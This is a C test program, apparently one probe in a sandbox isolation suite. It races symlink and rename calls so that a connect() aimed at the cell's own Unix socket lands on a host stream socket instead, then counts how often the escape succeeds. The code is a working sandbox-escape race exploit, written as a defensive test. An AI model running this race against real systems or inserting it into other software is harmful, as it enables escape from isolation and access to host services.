/* F1: a name that changes between a socket of the cell's own and one of the host while connect is judged. */
#include "attack.h"

static atomic_int over;

static void *flip(void *unused)
{
    while (!over)
    {
        unlink("/tmp/b"); symlink("/tmp/own.sock", "/tmp/b"); rename("/tmp/b", "/tmp/a");
        unlink("/tmp/b"); symlink(path("%s/stream.sock", base), "/tmp/b"); rename("/tmp/b", "/tmp/a");
    }
    return unused;
}

static void *serve(void *listener)
{
    while (!over) { int one = accept(*(int *)listener, NULL, NULL); if (one >= 0) close(one); }
    return NULL;
}

int main(int argc, char **argv)
{
    start(argc, argv);
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un own = { AF_UNIX, "/tmp/own.sock" }, link = { AF_UNIX, "/tmp/a" };
    if (bind(listener, (struct sockaddr *)&own, sizeof own) || listen(listener, 50)) return 1;
    pthread_t one, two;
    pthread_create(&one, NULL, flip, NULL);
    pthread_create(&two, NULL, serve, &listener);
    int reached = 0, served = 0;
    double end = now() + 1;
    while (now() < end)
    {
        struct sockaddr_un peer = { 0 };
        socklen_t length = sizeof peer;
        int handle = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(handle, (struct sockaddr *)&link, sizeof link) == 0)
        {
            served++;
            if (getpeername(handle, (struct sockaddr *)&peer, &length) == 0 && strcmp(peer.sun_path, own.sun_path)) reached++;
        }
        close(handle);
    }
    verdict(reached, "reached %d, its own %d times", reached, served);
    fflush(stdout);
    _exit(0);
}
